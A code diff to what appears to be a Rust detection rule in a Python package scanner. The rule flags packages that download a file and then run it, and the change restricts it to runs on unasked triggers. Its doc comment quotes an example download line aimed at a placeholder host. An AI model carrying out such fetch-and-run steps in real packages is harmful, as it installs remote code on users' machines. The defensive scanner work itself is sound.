@@ -1,6 +1,6 @@
 //! ## What it detects
 //!
-//! A file that this code has written with what came over the network, and then runs.
+//! A file that this code has written with what came over the network, and then runs, while nobody has called it.
 //!
 //! ## Why it is bad
 //!
@@ -25,8 +25,8 @@
 //! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
 //! ```
 
-use fondaco_python::{Api, Call, Taint};
-use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
+use fondaco_python::{Api, Call, Taint, Unit};
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
 use crate::contents::is_pip;
 use crate::{Hits, Package, Rule};
@@ -42,14 +42,20 @@ pub(crate) const RULE: Rule = Rule {
 };
 
 fn check(package: &Package<'_>, hits: &mut Hits) {
-    for (unit, call) in package.calls().filter(|(_, call)| runs_written(call)) {
-        let fetched = unit.calls.iter().filter(|other| {
-            is_saver(other) || other.api == Some(Api::FileWrite) && other.taint().has(Taint::NETWORK)
-        });
-        if fetched.into_iter().any(|write| is_same_file(write, call)) {
-            hits.call(unit, call, "runs a file that it has downloaded");
-        }
+    let unasked = |call: &Call| call.trigger.is_some_and(Trigger::is_unasked);
+    for (unit, call) in runs_of_downloads(package).filter(|(_, call)| unasked(call)) {
+        hits.call(unit, call, "runs a file that it has downloaded");
     }
+}
+
+/// Calls that run a file which the same module has written with what came over the network.
+pub(super) fn runs_of_downloads<'a>(package: &Package<'a>) -> impl Iterator<Item = (&'a Unit, &'a Call)> {
+    let is_fetched = |call: &Call| {
+        is_saver(call) || call.api == Some(Api::FileWrite) && call.taint().has(Taint::NETWORK)
+    };
+    package.calls().filter(move |(unit, call)| {
+        runs_written(call) && unit.calls.iter().any(|write| is_fetched(write) && is_same_file(write, call))
+    })
 }
 
 fn is_saver(call: &Call) -> bool {
